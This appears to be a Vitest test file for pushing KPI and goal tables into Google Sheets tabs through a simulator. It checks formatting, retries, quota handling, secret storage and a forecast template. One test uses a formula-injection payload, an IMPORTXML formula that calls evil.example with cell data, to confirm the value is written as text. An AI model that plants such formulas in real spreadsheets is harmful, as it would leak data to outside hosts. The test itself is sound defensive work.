import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { applyConfig } from "../../config/apply.ts";
import { parseConfig } from "../../config/file.ts";
import { createSecrets, generateSecretKey, parseSecretKey } from "../../core/secrets/index.ts";
import type { Store } from "../../core/store/db.ts";
import { forecast } from "../../core/forecast/index.ts";
import { writeSettings } from "../../core/store/setup/settings.ts";
import { DESTINATIONS } from "../../dashboards/destinations/index.ts";
import { pushDestination } from "../../dashboards/destinations/push.ts";
import {
  type SheetsSimulator,
  type SimulatedTab,
  startSheetsSimulator,
} from "../../dashboards/destinations/sheets/simulator/index.ts";
import { testDatabase } from "../support/database.ts";
import { World } from "./kpi-world.ts";

const secrets = createSecrets([parseSecretKey(generateSecretKey())]);
let store: Store;
let world: World;
let sim: SheetsSimulator;
let now: Date;

beforeAll(async () => {
  store = await testDatabase();
  world = await World.create(store, { timeZone: "Europe/Berlin", currency: "EUR" });
});
beforeEach(async () => {
  now = new Date("2026-11-23T08:00:00Z");
  await store.db.deleteFrom("destination_states").execute();
  await store.db.deleteFrom("goals").execute();
  sim = await startSheetsSimulator({ secret: "sheets-for-tests", now: () => now.getTime() });
  await goal("Ann", 1_000);
  return () => sim.close();
});
afterAll(() => writeSettings(store.db, "sheets", null));

const later = (minutes: number): void => void (now = new Date(now.getTime() + minutes * 60_000));

/** A row of the table: named by what would be a KPI. */
const goal = (name: string, target: number): Promise<void> =>
  world.goal(name, "2026-11-01", "2026-11-30", null, { target });

const GOALS = "tabs: [{ tab: Goals, table: goals }]";

async function configure(tabs: string, account = "service_account: ${KEY}"): Promise<void> {
  const text = `sheets:\n  ${account}\n  base_url: ${sim.url}\n  spreadsheets: [{ id: ${sim.spreadsheetId}, ${tabs} }]`;
  const values: { [name: string]: string } = {
    KEY: sim.serviceAccount,
    SECRET: sim.oauth.client_secret,
    REFRESH: sim.oauth.refresh_token,
  };
  const options = { connectors: [], destinations: DESTINATIONS };
  const desired = parseConfig(text, "c.yaml", { ...options, variable: (name) => values[name] });
  await applyConfig(store.db, desired, { ...options, secrets, actor: "test", prune: true, allowPrivateNetworks: true });
}

const push = (): Promise<readonly string[]> =>
  pushDestination(
    { store, secrets, clock: { now: () => now }, destinations: DESTINATIONS, allowPrivateNetworks: true },
    "sheets",
    new AbortController().signal,
  );

function tab(title: string): SimulatedTab {
  const found = sim.tabs.find((one) => one.title === title);
  if (found === undefined) throw new Error(`there is no tab ${title}`);
  return found;
}
/** Its rows without the head, of some columns by name. */
function rowsOf(title: string, ...names: string[]): unknown[][] {
  const [header = [], ...rows] = tab(title).values.slice(4);
  return rows
    .filter((row) => row.some((cell) => cell !== ""))
    .map((row) => names.map((name) => row[header.indexOf(name)] ?? ""));
}

const byText = (a: unknown[], b: unknown[]): number => (String(a[0]) < String(b[0]) ? -1 : 1);

function withoutTail(row: readonly unknown[]): unknown[] {
  return row.slice(0, row.findLastIndex((cell) => cell !== "") + 1);
}

test("a KPI and a table become tabs: numbers are numbers, days are days, and how fresh they are stands above", async () => {
  await configure("tabs: [{ tab: Deals, metric: deal_count, period: all }, { tab: Goals, table: goals, limit: 1 }]");
  await goal("Bob", 2_000);
  expect(await push()).toEqual([`${sim.spreadsheetId}/Deals`, `${sim.spreadsheetId}/Goals`]);
  // 2026-11-23 is day 46349 of spreadsheets; 09:00 in Berlin is three eighths of it.
  expect(tab("Deals").values).toEqual([
    ["Deal count", "all time"],
    ["As of (Europe/Berlin)", 46_349.375],
    ["Fresh as of", "not every source has been read yet"],
    ["Left out", expect.any(String)],
    ["Deal count", "Records"],
    [0, 0],
  ]);
  expect(rowsOf("Goals", "Metric", "Target", "From day")).toEqual([["Ann", 1_000, 46_327]]);
  expect(tab("Goals").values[3]).toEqual(["Left out", "rows beyond the first 1"]);
  const from = tab("Goals").values[4]?.indexOf("From day") ?? -1;
  expect([tab("Goals").pattern(5, from), tab("Goals").pattern(1, 1), tab("Goals").frozenRows]).toEqual([
    "yyyy-mm-dd",
    "yyyy-mm-dd hh:mm",
    5,
  ]);
});

test("what would be a formula stays a text, and what has no value is an empty cell", async () => {
  const evil = '=IMPORTXML("https://evil.example/?"&A1,"//a")';
  await goal(evil, 5);
  await goal("+1-2", 6);
  await configure(GOALS);
  await push();
  expect(rowsOf("Goals", "Metric", "Rep").toSorted(byText)).toEqual([
    ["+1-2", ""],
    [evil, ""],
    ["Ann", ""],
  ]);
  expect(tab("Goals").formulas).toEqual([]);
});

test("what has not changed is not written again; its stamp is, every five minutes", async () => {
  await configure(GOALS);
  await push();
  const requests = sim.requests.length;
  expect(await push()).toEqual([]);
  expect(sim.requests).toHaveLength(requests);
  later(5);
  expect(await push()).toEqual([]);
  expect(tab("Goals").values[1]?.[1]).toBeCloseTo(46_349.375 + 5 / 1440, 9);
  expect(rowsOf("Goals", "Metric")).toEqual([["Ann"]]);
});

test("rows that are gone leave empty cells, and what people have written beside the table stays", async () => {
  await goal("Bob", 2);
  await configure(GOALS);
  await push();
  const width = tab("Goals").values[4]?.length ?? 0;
  sim.hands.type("Goals", 6, width + 1, "=A7*2");
  sim.hands.type("Sheet1", 0, 0, "=SUM(Goals!F6:F200)");
  const { rows } = tab("Goals");
  await store.db.deleteFrom("goals").where("metric", "=", "Bob").execute();
  await push();
  expect(rowsOf("Goals", "Metric").filter(([name]) => name !== "")).toEqual([["Ann"]]);
  expect(tab("Goals").values[6]?.filter((cell) => cell !== "")).toEqual(["=A7*2"]);
  // A row that is taken away would shorten other people's formulas for good.
  expect(tab("Goals").rows).toBe(rows);
});

test("a tab of somebody else is not touched; the hub's own may be renamed, and is made again when it is gone", async () => {
  sim.hands.add("goals", [["mine"]]);
  await configure(GOALS);
  await expect(push()).rejects.toMatchObject({ code: "sheets.tab_taken", kind: "config" });
  expect(tab("goals").values).toEqual([["mine"]]);
  sim.hands.rename("goals", "My own");
  await push();
  sim.hands.rename("Goals", "Targets '26!");
  await goal("Bob", 2);
  expect(await push()).toHaveLength(1);
  expect(sim.tabs.map(({ title }) => title)).toEqual(["Sheet1", "My own", "Targets '26!"]);
  expect(rowsOf("Targets '26!", "Metric").toSorted(byText)).toEqual([["Ann"], ["Bob"]]);
  sim.hands.remove("Targets '26!");
  later(5);
  await push();
  expect(rowsOf("Goals", "Metric")).toHaveLength(2);
});

test.each(["before", "after"] as const)(
  "a push that is cut %s any of its requests leaves the same sheet once it is repeated",
  async (when) => {
    await configure(
      "tabs: [{ tab: Goals, table: goals }, { tab: Past, metric: deal_count, period: today, append: true }]",
    );
    const cuts: string[] = [];
    /** A first push and one of something else; each cut at its n-th request and repeated; 0: not cut. */
    const afterBoth = async (first: number, second: number): Promise<unknown> => {
      for (const { title } of sim.tabs.slice(1)) sim.hands.remove(title);
      await store.db.deleteFrom("destination_states").execute();
      await store.db.deleteFrom("goals").execute();
      await goal("Ann", 1);
      await goal("Bob", 2);
      await cutAndRepeated(first);
      await store.db.deleteFrom("goals").where("metric", "=", "Ann").execute();
      await cutAndRepeated(second);
      return sim.tabs.map(({ title, values, marks }) => ({ title, marks, rows: values.slice(4).map(withoutTail) }));
    };
    const cutAndRepeated = async (at: number): Promise<void> => {
      sim.cut(at, when);
      if (at > 0) cuts.push(await push().then(String, (error: { readonly code: string }) => error.code));
      await push();
      later(1);
    };
    const wanted = await afterBoth(0, 0);
    expect(wanted).toMatchObject([
      { title: "Sheet1" },
      { title: "Goals" },
      {
        title: "Past",
        rows: [
          ["Day", "Deal count", "Records"],
          [46_349, 0, 0],
        ],
      },
    ]);
    // What is there is read, then changed, then written.
    for (const at of [1, 2, 3]) expect(await afterBoth(at, 0)).toEqual(wanted);
    for (const at of [1, 2, 3]) expect(await afterBoth(0, at)).toEqual(wanted);
    expect(cuts).toEqual(Array.from({ length: 6 }, () => "google.unreachable"));
  },
);

test("a history grows by a row a day, has one for each day, and is not written over by another definition", async () => {
  await configure("tabs: [{ tab: Past, metric: deal_count, period: today, append: true }]");
  await push();
  later(24 * 60);
  await push();
  later(24 * 60);
  // The hub has lost its memory; the sheet has not.
  await store.db.deleteFrom("destination_states").execute();
  await push();
  await push();
  expect(rowsOf("Past", "Day", "Deal count")).toEqual([
    [46_349, 0],
    [46_350, 0],
    [46_351, 0],
  ]);
  await configure("tabs: [{ tab: Past, metric: won_value, period: today, append: true }]");
  await expect(push()).rejects.toMatchObject({ code: "sheets.would_lose_history" });
  expect(rowsOf("Past", "Day")).toHaveLength(3);
});

test("a used-up quota is waited for, a broken Google is tried again, and what people must mend is said", async () => {
  await configure(GOALS);
  sim.failNext(1, 429, "Quota exceeded for quota metric 'Read requests'");
  await expect(push()).rejects.toMatchObject({
    code: "google.rate_limited",
    retryAt: new Date(now.getTime() + 60_000),
  });
  sim.failNext(1, 503);
  await expect(push()).rejects.toMatchObject({ code: "google.unavailable", kind: "transient" });
  sim.share(false);
  const refused = await push().catch((error: unknown) => error);
  expect(refused).toMatchObject({ code: "google.no_access", kind: "auth" });
  expect(String(refused)).toContain(sim.email);
  sim.share(true);
  sim.revoke();
  await expect(push()).rejects.toMatchObject({ code: "google.key_rejected", kind: "auth" });
});

test("a person's consent will do instead of a service account, and no key is stored or told in the clear", async () => {
  await configure(
    GOALS,
    `oauth: { client_id: ${sim.oauth.client_id}, client_secret: "\${SECRET}", refresh_token: "\${REFRESH}" }`,
  );
  expect(await push()).toHaveLength(1);
  const { rows } = await store.pool.query("select to_jsonb(s) from settings s where section = 'sheets'");
  expect(JSON.stringify(rows)).not.toContain(sim.oauth.refresh_token);
  await expect(configure(GOALS, "# no account")).rejects.toThrow("Give either service_account or oauth");
});

test("Google's quota of a minute holds a burst of pushes back, and none of it is lost", async () => {
  await configure(GOALS);
  sim.limit(3);
  const ends: string[] = [];
  for (let count = 1; count <= 5; count += 1) {
    await store.db.deleteFrom("goals").execute();
    await goal(`Rep ${count}`, count);
    ends.push(
      await push().then(
        () => "written",
        (error: unknown) => (error as { code: string }).code,
      ),
    );
  }
  // Two writes a push; what was remembered of the one that was cut off is made up for.
  expect(ends).toEqual([
    "written",
    "google.rate_limited",
    "google.rate_limited",
    "google.rate_limited",
    "google.rate_limited",
  ]);
  later(1);
  await push();
  expect(rowsOf("Goals", "Metric")).toEqual([["Rep 5"]]);
});

test("the forecast template is made once; what people write into it is the plan, and what is wrong is told there and in the hub", async () => {
  await configure("forecast: Forecast");
  const name = `${sim.spreadsheetId}/forecast/Forecast`;
  expect(await push()).toEqual([name]);
  expect(tab("Forecast").values[2]).toEqual(["Status", "all right"]);
  const ask = () => forecast(store.db, { horizons: [30], by: null, asOf: null, now, seed: "test" });
  expect((await ask()).plans).toMatchObject({ inputs: [], problems: [] });
  sim.hands.type("Forecast", 5, 1, 250);
  sim.hands.type("Forecast", 6, 1, "ten");
  sim.hands.type("Forecast", 42, 0, "deals won");
  sim.hands.type("Forecast", 42, 1, 46_327);
  sim.hands.type("Forecast", 42, 2, 46_356);
  sim.hands.type("Forecast", 42, 3, 4);
  expect(await push()).toEqual([name]);
  const { plans, goals } = await ask();
  expect(plans?.inputs).toEqual([
    { input: "product_cost", from: "Forecast!B6" },
    { input: "goals", from: "Forecast!A43" },
  ]);
  expect(plans?.problems).toEqual([
    { cell: "Forecast!B7", problem: expect.stringContaining('"ten" is no number') as string },
  ]);
  expect(goals).toEqual([
    { metric: "deals_won", from: "2026-11-01", to: "2026-11-30", target: 4, so_far: 0, expected: 0, share: 0 },
  ]);
  const { values } = tab("Forecast");
  expect([values[2]?.[1], values[5]?.slice(0, 3), values[6]?.[2], values[42]?.[4]]).toEqual([
    "1 cell is not right: see B7",
    ["Cost of a win", 250, "taken"],
    expect.stringMatching(/^B7: "ten" is no number/),
    "taken; so far 0, expected 0 (0 %)",
  ]);
  expect(await push()).toEqual([]);
  // Made right again, and away with the template: the plans go with it.
  sim.hands.type("Forecast", 6, 1, 10);
  await push();
  expect([tab("Forecast").values[2]?.[1], (await ask()).plans?.problems]).toEqual(["all right", []]);
  await configure(GOALS);
  await push();
  expect((await ask()).plans).toBeNull();
});
